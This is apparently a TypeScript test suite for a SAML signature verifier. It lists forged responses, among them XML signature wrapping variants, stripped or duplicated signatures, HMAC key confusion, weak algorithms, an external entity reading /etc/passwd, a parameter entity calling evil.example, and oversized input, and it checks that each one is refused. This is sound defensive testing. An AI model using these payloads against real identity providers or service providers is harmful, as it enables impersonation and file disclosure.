// Attacks on signed responses, by the numbers of the checklist: somebody has one sound response of the provider and bends it, so that
// another person is read from it. Every row is refused for its own reason: a code that changes means that a check is gone.

import { describe, expect, test } from "bun:test";
import { createHmac } from "node:crypto";
import { namespaces } from "#protocols/saml/constants.ts";
import { createSigningKey } from "#protocols/saml/keys.ts";
import { readResponse } from "#protocols/saml/read-response.ts";
import { verifyResponse } from "#protocols/saml/signature/verify-response.ts";
import { codeOf } from "../support/codes.ts";
import {
  assertionXml,
  type ResponseParts,
  responseXml,
  signAssertion,
  signResponse,
} from "../support/idp.ts";
import { stranger, theirs, theirsNext } from "../support/keys.ts";
import { algorithms } from "../support/requests.ts";

const certificates = [theirs.certificatePem];
const evil = { nameId: "00u-evil", assertionId: "_evil" };
const verify = (xml: string) => verifyResponse({ xml, certificates });

/** As it was captured: the assertion signed, the response signed, both. */
const captured = signAssertion(responseXml());
const whole = signResponse(responseXml());
const both = signResponse(captured);
const pieces = (xml: string) => {
  const assertion = /<saml:Assertion .*<\/saml:Assertion>/s.exec(xml)?.[0] ?? "";
  const signature = /<ds:Signature .*?<\/ds:Signature>/s.exec(xml)?.[0] ?? "";
  return { assertion, signature, bare: assertion.replace(signature, "") };
};
const { assertion, signature, bare } = pieces(captured);
const evilAssertion = (parts: ResponseParts = {}) => assertionXml({ ...evil, ...parts });
/** The evil assertion with something behind its Issuer. */
const evilWith = (content: string) =>
  evilAssertion().replace("</saml:Issuer>", `</saml:Issuer>${content}`);
const inside = (xml: string, place: string, content: string) =>
  xml.replace(`</${place}>`, `${content}</${place}>`);
const edited = (from: string | RegExp, to: string, xml = captured) => {
  const result = xml.replace(from, to);
  if (result === xml) throw new Error(`nothing to edit: ${from}`);
  return result;
};
const responseWith = (content: string, behind = "") => responseXml({ content, behind });
const extensions = (content: string) => `<samlp:Extensions>${content}</samlp:Extensions>`;
const object = (content: string) => `<ds:Object>${content}</ds:Object>`;
const signatureWith = (content: string) =>
  signature.replace("</ds:Signature>", `${content}</ds:Signature>`);
const foreign = 'xmlns:x="urn:x"';
const signedInfo = /<ds:SignedInfo>.*<\/ds:SignedInfo>/s.exec(captured)?.[0] ?? "";
const reference = /<ds:Reference .*<\/ds:Reference>/s.exec(captured)?.[0] ?? "";
const sha1 = "http://www.w3.org/2000/09/xmldsig#";
const errorStatus = "urn:oasis:names:tc:SAML:2.0:status:Responder";
/** The signed response with the attacker's own Response around it, or beside. */
const wholeBare = whole.replace(pieces(whole).signature, "");
const wholeSignature = pieces(whole).signature;

type Attack = [attack: string, xml: string, code: string];

const wrapping: Attack[] = [
  ["S1 nothing is signed", responseXml(), "signature_missing"],
  [
    "S2 the signature is stripped, the elements are kept",
    captured.replace(signature, ""),
    "signature_missing",
  ],
  ["S2 another name", edited("00u-ada", "00u-evil"), "signature_invalid"],
  [
    "S2 another name in a response that is signed itself",
    edited("00u-ada", "00u-evil", whole),
    "signature_invalid",
  ],
  [
    "S2 another request in the envelope of a response that is signed itself",
    edited('InResponseTo="_request"', 'InResponseTo="_evil"', both),
    "signature_invalid",
  ],
  [
    "S2 another address behind the audience",
    edited("urn:weftid:tenant:sp:provider", "urn:weftid:tenant:sp:other"),
    "signature_invalid",
  ],
  [
    "S2 an attribute that is added",
    edited(
      "</saml:AuthnStatement>",
      '</saml:AuthnStatement><saml:AttributeStatement><saml:Attribute Name="email"><saml:AttributeValue>eve@example.org</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>',
    ),
    "signature_invalid",
  ],
  [
    "S3 XSW1 an evil response around the signed one, in its signature",
    inside(responseXml({ ...evil, id: "_evilResponse" }), "saml:Issuer", "").replace(
      "</saml:Issuer>",
      `</saml:Issuer>${wholeSignature.replace("</ds:Signature>", `${object(wholeBare)}</ds:Signature>`)}`,
    ),
    "nested_message",
  ],
  [
    "S4 XSW2 an evil response with the signed one before its signature",
    responseXml({ ...evil, id: "_evilResponse" }).replace(
      "</saml:Issuer>",
      `</saml:Issuer>${wholeBare}${wholeSignature}`,
    ),
    "nested_message",
  ],
  [
    "S5 XSW3 an evil assertion before the signed one",
    responseWith(evilAssertion() + assertion),
    "several_assertions",
  ],
  [
    "S5 XSW3 an evil assertion behind the signed one",
    responseWith(assertion + evilAssertion()),
    "several_assertions",
  ],
  [
    "S6 XSW4 the signed assertion inside an evil one",
    responseWith(evilWith(assertion)),
    "nested_message",
  ],
  [
    "S7 XSW5 an evil assertion keeps the signature, the original at the end",
    responseWith(evilWith(signature) + bare),
    "several_assertions",
  ],
  [
    "S8 XSW6 the original in the signature of an evil assertion",
    responseWith(evilWith(signatureWith(object(bare)))),
    "nested_message",
  ],
  [
    "S9 XSW7 the signed assertion in Extensions",
    responseWith(evilAssertion(), extensions(assertion)),
    "nested_message",
  ],
  [
    "S10 XSW8 the signed assertion in an Object of an evil one",
    responseWith(
      evilWith(
        signature.replace(
          "</ds:Signature>",
          `${object(assertion.replace(signature, ""))}</ds:Signature>`,
        ),
      ),
    ),
    "nested_message",
  ],
  [
    "S11 XSW9 the signed assertion in a confirmation",
    responseWith(
      evilAssertion({
        confirmation: `<saml:SubjectConfirmation Method="m"><saml:SubjectConfirmationData>${assertion}</saml:SubjectConfirmationData></saml:SubjectConfirmation>`,
      }),
    ),
    "nested_message",
  ],
  [
    "S12 the signed assertion in Extensions of a foreign element, a forged one outside",
    responseWith(evilAssertion(), extensions(`<x:y ${foreign}>${assertion}</x:y>`)),
    "nested_message",
  ],
  [
    "S12 the signed response in Extensions of an evil one",
    responseXml({ ...evil, id: "_evilResponse", behind: extensions(whole) }),
    "nested_message",
  ],
  [
    "S13 the signed assertion in Advice",
    responseWith(evilWith(`<saml:Advice>${assertion}</saml:Advice>`)),
    "nested_message",
  ],
  [
    "S13 the signed assertion in the detail of the status",
    responseWith(evilAssertion()).replace(
      "</samlp:Status>",
      `<samlp:StatusDetail>${assertion}</samlp:StatusDetail></samlp:Status>`,
    ),
    "nested_message",
  ],
  [
    "S14 two assertions, the second one signed",
    responseWith(evilAssertion({ assertionId: "_first" }) + assertion),
    "several_assertions",
  ],
  [
    "S14 two assertions, both signed",
    both.replace(
      "</samlp:Response>",
      `${assertion.replaceAll("_assertion", "_second")}</samlp:Response>`,
    ),
    "several_assertions",
  ],
  [
    "S15 the identifier of the signed assertion on the response",
    edited('ID="_response"', 'ID="_assertion"'),
    "duplicate_id",
  ],
  [
    "S15 the identifier once more as Id",
    edited("</samlp:Status>", `</samlp:Status><x:y ${foreign} Id="_assertion"/>`),
    "duplicate_id",
  ],
  [
    "S15 the identifier once more as id",
    edited("</samlp:Status>", `</samlp:Status><x:y ${foreign} id="_assertion"/>`),
    "duplicate_id",
  ],
  [
    "S15 the identifier once more as xml:id",
    edited("</samlp:Status>", `</samlp:Status><x:y ${foreign} xml:id="_assertion"/>`),
    "forbidden_xml",
  ],
  [
    "S16 a signed error with a forged assertion and a decoy signature",
    signResponse(responseXml({ content: "", status: errorStatus })).replace(
      "</samlp:Response>",
      `${evilWith(signatureWith(object(`<x:y ${foreign}/>`)))}</samlp:Response>`,
    ),
    "signature_invalid",
  ],
  [
    "S16 an Object in the signature",
    edited("</ds:Signature>", `${object(`<x:y ${foreign}/>`)}</ds:Signature>`),
    "signature_structure",
  ],
  [
    "S16 a second signature on the assertion",
    responseWith(assertion.replace("</saml:Issuer>", `</saml:Issuer>${signature}`)),
    "signature_structure",
  ],
  [
    "S16 a second signature on the response",
    whole.replace(wholeSignature, wholeSignature.repeat(2)),
    "signature_structure",
  ],
  [
    "S16 a signed error without any assertion",
    signResponse(responseXml({ content: "", status: errorStatus })),
    "assertion_missing",
  ],
  [
    "S16 a signature that hangs elsewhere",
    edited(
      "</samlp:Status>",
      `<samlp:StatusDetail>${signature}</samlp:StatusDetail></samlp:Status>`,
      captured.replace(signature, ""),
    ),
    "signature_structure",
  ],
  ["S17 a comment in the name", edited("00u-ada", "00u-<!---->ada"), "forbidden_xml"],
  ["S18 an instruction in the name", edited("00u-ada", "00u-<?x?>ada"), "forbidden_xml"],
  ["S19 CDATA in the name", edited("00u-ada", "<![CDATA[00u-ada]]>"), "forbidden_xml"],
  [
    "S19 an element in the name",
    edited("00u-ada", `00u-ada<x:y ${foreign}/>`),
    "signature_invalid",
  ],
];

const algorithmic: Attack[] = [
  [
    "S20 two SignedInfo",
    edited("<ds:SignedInfo>", `${signedInfo.replace(/(?<=DigestValue>)./, "A")}<ds:SignedInfo>`),
    "signature_structure",
  ],
  [
    "S20 two References",
    edited("</ds:SignedInfo>", `${reference}</ds:SignedInfo>`),
    "signature_structure",
  ],
  ["S20 an empty Reference URI", edited("#_assertion", ""), "signature_reference"],
  [
    "S20 a Reference to the response from within the assertion",
    edited("#_assertion", "#_response"),
    "signature_reference",
  ],
  [
    "S21 a comment in DigestValue",
    edited("<ds:DigestValue>", "<ds:DigestValue><!-- x -->"),
    "forbidden_xml",
  ],
  ["S21 a space in DigestValue", edited(/(?<=DigestValue>.{10})/, " "), "signature_structure"],
  [
    "S22 an XPath transform",
    edited(
      `<ds:Transform Algorithm="${algorithms.exclusive}"/>`,
      '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>false()</ds:XPath></ds:Transform>',
    ),
    "signature_algorithm",
  ],
  [
    "S22 an XSLT transform",
    edited(
      `<ds:Transform Algorithm="${algorithms.exclusive}"/>`,
      '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"/>',
    ),
    "signature_algorithm",
  ],
  [
    "S22 canonicalisation with comments",
    signAssertion(responseXml(), { canonicalization: `${algorithms.exclusive}WithComments` }),
    "signature_algorithm",
  ],
  [
    "S23 a relative namespace",
    edited("<saml:Issuer>", '<saml:Issuer xmlns:x="1">'),
    "forbidden_xml",
  ],
  [
    "S24 a namespaced ID beside the real one",
    edited(' ID="_assertion"', ` ID="_assertion" ${foreign} x:ID="_evil"`),
    "forbidden_xml",
  ],
  [
    "S24 an assertion of a foreign namespace before the signed one",
    responseWith(`<x:Assertion ${foreign} ID="_evil"/>${assertion}`).replace("00u-ada", "00u-evil"),
    "signature_invalid",
  ],
  [
    "S24 a response of a foreign namespace",
    captured.replace(namespaces.protocol, "urn:x"),
    "unexpected_message",
  ],
  [
    "S25 the attacker's certificate in KeyInfo",
    signAssertion(responseXml(evil), {
      privateKeyPem: stranger.privateKeyPem,
      certificatePem: stranger.certificatePem,
    }),
    "signature_invalid",
  ],
  [
    "S25 the provider's certificate in KeyInfo, the attacker's key",
    signAssertion(responseXml(evil), { privateKeyPem: stranger.privateKeyPem }),
    "signature_invalid",
  ],
  ["S26 HMAC with the public key as secret", hmacSigned(), "signature_algorithm"],
  [
    "S27 SHA-1 signatures",
    signAssertion(responseXml(), { signatureAlgorithm: `${sha1}rsa-sha1` }),
    "signature_algorithm",
  ],
  [
    "S27 SHA-1 digests",
    signAssertion(responseXml(), { digestAlgorithm: `${sha1}sha1` }),
    "signature_algorithm",
  ],
  [
    "S27 MD5",
    edited(algorithms.rsaSha256, "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"),
    "signature_algorithm",
  ],
  ["S27 an unknown algorithm", edited(algorithms.rsaSha256, "urn:x"), "signature_algorithm"],
  ["S29 a document type", `<!DOCTYPE samlp:Response>${captured}`, "forbidden_xml"],
  [
    "S29 an external entity",
    `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${edited("00u-ada", "&x;")}`,
    "forbidden_xml",
  ],
  [
    "S29 a parameter entity",
    `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]>${captured}`,
    "forbidden_xml",
  ],
  ["S29 an entity without its declaration", edited("00u-ada", "&ada;"), "forbidden_xml"],
  [
    "S30 ten thousand elements deep",
    `${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}`,
    "too_large",
  ],
  [
    "S30 forty levels deep",
    `<samlp:Response xmlns:samlp="${namespaces.protocol}">${"<a>".repeat(40)}${"</a>".repeat(40)}</samlp:Response>`,
    "too_large",
  ],
  [
    "S30 a hundred thousand attributes",
    `<a ${Array.from({ length: 100_000 }, (_, at) => `a${at}=""`).join(" ")}/>`,
    "too_large",
  ],
  ["S30 half a megabyte of text", edited("00u-ada", "x".repeat(500_000)), "too_large"],
  [
    "S31 an encrypted assertion beside a signed one",
    captured.replace("</samlp:Response>", "<saml:EncryptedAssertion/></samlp:Response>"),
    "several_assertions",
  ],
  [
    "S31 an encrypted assertion in an unsigned response",
    responseWith("<saml:EncryptedAssertion/>"),
    "assertion_encrypted",
  ],
  [
    "S31 an encrypted name",
    edited(/<saml:NameID.*<\/saml:NameID>/, "<saml:EncryptedID/>"),
    "signature_invalid",
  ],
];

/** SignedInfo under HMAC, keyed with what everybody may know. */
function hmacSigned(): string {
  const algorithm = "http://www.w3.org/2000/09/xmldsig#hmac-sha1";
  const forged = signedInfo.replace(algorithms.rsaSha256, algorithm);
  const value = createHmac("sha1", theirs.certificatePem).update(forged).digest("base64");
  return captured.replace(signedInfo, forged).replace(/(?<=SignatureValue>)[^<]+/, value);
}

describe("a response", () => {
  test.each(wrapping)("is refused when it is wrapped or bent: %s", (_, xml, code) => {
    expect(codeOf(() => verify(xml))).toBe(code);
  });

  test.each(algorithmic)("is refused for how it is signed or written: %s", (_, xml, code) => {
    expect(codeOf(() => verify(xml))).toBe(code);
  });

  test("is refused unverified already when it wraps another message, or holds several", () => {
    for (const [attack, xml, code] of wrapping) {
      if (!["nested_message", "several_assertions"].includes(code)) continue;
      expect(`${attack}: ${codeOf(() => readResponse(xml))}`).toBe(`${attack}: ${code}`);
    }
  });

  test.each([
    ["its assertion", captured],
    ["itself", whole],
    ["both", both],
  ])("is read where %s is signed", (_, xml) => {
    const { assertion: read } = verify(xml);
    expect([read.id, read.nameId?.value]).toEqual(["_assertion", "00u-ada"]);
  });

  test("is trusted for its envelope only where it is signed itself", () => {
    expect([captured, whole, both].map((xml) => verify(xml).isEnvelopeSigned)).toEqual([
      false,
      true,
      true,
    ]);
    // What surrounds a signed assertion is the word of whoever posted it: read as such.
    const bent = edited('ID="_response"', 'ID="_other"');
    expect(verify(bent).envelope.id).toBe("_other");
    expect(verify(bent).assertion.nameId?.value).toBe("00u-ada");
  });

  test("S28 is taken from a pinned certificate that has expired, since metadata is what revokes it", async () => {
    const old = await createSigningKey({
      commonName: "old",
      now: new Date("2020-01-01T00:00:00Z"),
      years: 1,
    });
    const xml = signAssertion(responseXml(), old);
    const pinned = [old.certificatePem];
    expect(verifyResponse({ xml, certificates: pinned }).assertion.id).toBe("_assertion");
  });

  test("is verified by whichever of the provider's certificates fits, with or without KeyInfo", () => {
    const xml = signAssertion(responseXml(), {
      privateKeyPem: theirsNext.privateKeyPem,
      certificatePem: undefined,
    });
    const known = [theirs.certificatePem, theirsNext.certificatePem];
    expect(verifyResponse({ xml, certificates: known }).assertion.id).toBe("_assertion");
    expect(codeOf(() => verify(xml))).toBe("signature_invalid");
    expect(codeOf(() => verifyResponse({ xml, certificates: [] }))).toBe("certificate_missing");
  });
});
